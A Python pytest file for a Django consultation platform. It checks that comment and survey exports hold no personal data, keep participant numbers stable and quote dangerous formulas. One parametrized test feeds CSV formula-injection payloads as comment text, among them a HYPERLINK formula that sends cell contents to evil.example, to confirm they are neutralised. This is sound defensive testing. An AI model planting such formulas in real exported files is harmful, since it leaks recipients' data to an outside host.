"""What each export format contains: exactly the published and withdrawn comments, no
personal data, participant numbers stable within an export and unrelated to accounts."""

import csv
import io
import json
import re

import openpyxl
import pytest
from django.urls import reverse

from consultations.exports import data
from consultations.exports.writers import pdf as pdf_writer
from engage.policy.models import ExportRecord
from tests.exports.conftest import NAMES_AND_EMAILS, NEVER_EXPORTED

pytestmark = pytest.mark.django_db

EXPORTED = ["general", "p1_bob", "p1_alice", "p1_reply", "p1_withdrawn", "p2_alice"]


def export(client, consultation, export_format, language="en"):
    return client.post(
        reverse("exports_admin:export", args=[consultation.pk]),
        {"format": export_format, "language": language},
    )


def body(response):
    if getattr(response, "streaming", False):
        return b"".join(response.streaming_content)
    return response.content


def assert_private(content):
    text = content.decode() if isinstance(content, bytes) else content
    for secret in NAMES_AND_EMAILS + NEVER_EXPORTED:
        assert secret not in text


def test_csv_has_one_row_per_exported_comment(client, staff, heard):
    client.force_login(staff)
    response = export(client, heard.consultation, "csv")
    assert response.status_code == 200
    assert response.streaming
    assert response["Content-Type"].startswith("text/csv")
    content = body(response).decode()
    assert_private(content)
    reader = csv.DictReader(io.StringIO(content))
    assert reader.fieldnames == data.COLUMNS
    rows = list(reader)
    assert [int(r["comment_id"]) for r in rows] == [heard.comments[k].pk for k in EXPORTED]

    by_id = {int(r["comment_id"]): r for r in rows}
    c = heard.comments
    # The withdrawn comment is a placeholder: no text, no participant number.
    withdrawn = by_id[c["p1_withdrawn"].pk]
    assert (withdrawn["status"], withdrawn["text"], withdrawn["participant"]) == (
        "withdrawn",
        "",
        "",
    )
    # Replies point at their parent; text is what the author typed, but "=…" is
    # quoted so that a spreadsheet never runs it as a formula.
    assert by_id[c["p1_reply"].pk]["parent_id"] == str(c["p1_alice"].pk)
    assert by_id[c["p1_bob"].pk]["text"] == "'=SUM(1,2) more room please"
    assert by_id[c["p1_alice"].pk]["language"] == "ar"
    assert by_id[c["p1_bob"].pk]["proposal"] == "Wider pavements"
    assert (by_id[c["p1_bob"].pk]["support"], by_id[c["p1_bob"].pk]["oppose"]) == ("2", "1")
    assert by_id[c["p1_bob"].pk]["created_at"].startswith(c["p1_bob"].created_at.date().isoformat())


def test_csv_participant_numbers_are_stable_within_an_export_and_not_user_ids(client, staff, heard):
    client.force_login(staff)
    rows = list(
        csv.DictReader(io.StringIO(body(export(client, heard.consultation, "csv")).decode()))
    )
    by_id = {int(r["comment_id"]): r["participant"] for r in rows}
    numbers = {}
    for comment in heard.comments.values():
        if comment.pk in by_id and by_id[comment.pk]:
            numbers.setdefault(comment.author_id, set()).add(by_id[comment.pk])
    # One number per person, a different one for each person.
    assert all(len(found) == 1 for found in numbers.values())
    assigned = {author: found.pop() for author, found in numbers.items()}
    assert len(set(assigned.values())) == len(assigned) == 3
    # Numbered in order of first appearance (carol in the general discussion first).
    carol, bob, alice = heard.authors[2], heard.authors[1], heard.authors[0]
    assert [assigned[carol.pk], assigned[bob.pk], assigned[alice.pk]] == ["1", "2", "3"]
    assert all(str(author) != number for author, number in assigned.items())


def test_every_direct_export_is_recorded(client, staff, heard):
    client.force_login(staff)
    body(export(client, heard.consultation, "csv"))
    record = ExportRecord.objects.get()
    assert (record.user, record.scope, record.export_format) == (
        staff,
        f"consultation:{heard.consultation.pk}",
        "csv",
    )
    assert record.kind == "consultation_comments"


def test_xlsx_has_a_sheet_per_proposal_and_real_cells(client, staff, heard):
    client.force_login(staff)
    response = export(client, heard.consultation, "xlsx")
    assert response.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(body(response)))
    assert workbook.sheetnames == [
        "About",
        "0 General discussion",
        "1 Wider pavements",
        "2 Safer crossings   phase 1",
        "Survey results",
    ]
    sheet = workbook["1 Wider pavements"]
    rows = list(sheet.iter_rows(values_only=True))
    header, comments = rows[0], rows[1:]
    assert header[0] == "Comment" and header[-1] == "Text"
    assert [row[0] for row in comments] == [
        heard.comments[k].pk for k in ("p1_bob", "p1_alice", "p1_reply", "p1_withdrawn")
    ]
    written_at = header.index(next(h for h in header if h.startswith("Written at")))
    import datetime

    assert all(isinstance(row[written_at], datetime.datetime) for row in comments)
    # A text that looks like a formula stays text.
    text_cell = sheet.cell(row=2, column=len(header))
    assert text_cell.value == "=SUM(1,2) more room please"
    assert text_cell.data_type == "s"
    # One comment per row, never all in one cell; reaction counts are numbers.
    assert comments[0][header.index("Support")] == 2
    # Participant numbers agree across sheets (bob: 2 in the CSV order as well).
    participant = header.index("Participant")
    assert comments[0][participant] == 2
    survey = [row for row in workbook["Survey results"].iter_rows(values_only=True) if row]
    assert ("Walk", 2) in [tuple(row[:2]) for row in survey]
    assert ("More benches",) in [tuple(v for v in row if v is not None) for row in survey]
    everything = " ".join(
        str(value)
        for ws in workbook.worksheets
        for row in ws.iter_rows(values_only=True)
        for value in row
        if value is not None
    )
    assert_private(everything)


def test_json_holds_comments_and_survey_results(client, staff, heard):
    client.force_login(staff)
    response = export(client, heard.consultation, "json")
    assert response.status_code == 200
    document = json.loads(body(response))
    assert_private(json.dumps(document))
    assert [c["comment_id"] for c in document["comments"]] == [
        heard.comments[k].pk for k in EXPORTED
    ]
    assert set(document["comments"][0]) == set(data.COLUMNS)
    assert [p["title"] for p in document["proposals"]] == [
        "Wider pavements",
        "Safer crossings: [phase 1]?",
    ]
    (survey,) = document["surveys"]
    how, scale, free = survey["questions"]
    assert survey["responses"] == 3
    assert how["options"] == [{"text": "Walk", "count": 2}, {"text": "Bus", "count": 1}]
    assert scale["mean"] == pytest.approx(3.0)
    assert free["texts"] == ["More benches"]


def page_count(pdf_bytes):
    return len(re.findall(rb"/Type\s*/Page(?![s\w])", pdf_bytes))


def test_pdf_has_a_page_per_section_and_no_personal_data(client, staff, heard):
    client.force_login(staff)
    response = export(client, heard.consultation, "pdf", language="fr")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    pdf_bytes = body(response)
    assert pdf_bytes.startswith(b"%PDF")
    # Overview, general discussion, two proposals, one survey.
    assert page_count(pdf_bytes) == 5
    from django.utils import translation

    with translation.override("fr"):
        content = pdf_writer.report_content(heard.consultation)
    assert content.page_count == 5
    texts = " ".join(str(t) for t in content.texts())
    assert_private(texts)
    assert "Wider pavements" in texts and "Walk" in texts
    assert ExportRecord.objects.get().export_format == "pdf"


def test_an_unknown_format_is_refused_with_a_message(client, staff, heard):
    client.force_login(staff)
    response = export(client, heard.consultation, "docx")
    assert response.status_code == 302
    page = client.get(response["Location"]).content.decode()
    assert "Choose a format" in page
    assert not ExportRecord.objects.exists()


def test_partners_get_survey_counts_but_not_written_answers(client, heard):
    from tests.exports.conftest import EXPORT, partner

    member = partner(EXPORT, f"consultation:{heard.consultation.pk}", organisation="Exporters")
    client.force_login(member)
    response = client.post(
        reverse("exports_reports:export", args=[heard.consultation.pk]), {"format": "json"}
    )
    document = json.loads(body(response))
    how, _scale, free = document["surveys"][0]["questions"]
    assert how["options"][0] == {"text": "Walk", "count": 2}
    assert free["answered"] == 1 and free["texts"] == []
    assert "More benches" not in json.dumps(document)
    assert len(document["comments"]) == len(EXPORTED)


async def test_under_asgi_the_csv_streams_without_being_read_into_memory_first():
    from django.test import AsyncRequestFactory, RequestFactory

    from consultations.exports.admin_views import stream

    pulled = []

    def chunks():
        for part in ("header\n", "row 1\n", "row 2\n"):
            pulled.append(part)
            yield part

    asynchronous = stream(AsyncRequestFactory().get("/"), chunks())
    first = await asynchronous.__anext__()
    assert first == "header\n" and pulled == ["header\n"]  # one chunk at a time
    assert [part async for part in asynchronous] == ["row 1\n", "row 2\n"]
    synchronous = chunks()
    assert stream(RequestFactory().get("/"), synchronous) is synchronous


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_csv_text_that_looks_like_a_formula_is_quoted(client, staff, heard, text):
    from consultations.models import Comment

    Comment.objects.filter(pk=heard.comments["general"].pk).update(body_text=text)
    client.force_login(staff)
    content = body(export(client, heard.consultation, "csv")).decode()
    rows = {int(r["comment_id"]): r for r in csv.DictReader(io.StringIO(content))}
    assert rows[heard.comments["general"].pk]["text"] == "'" + text
    assert rows[heard.comments["p1_alice"].pk]["text"] == "Yes, wider"  # plain text as is
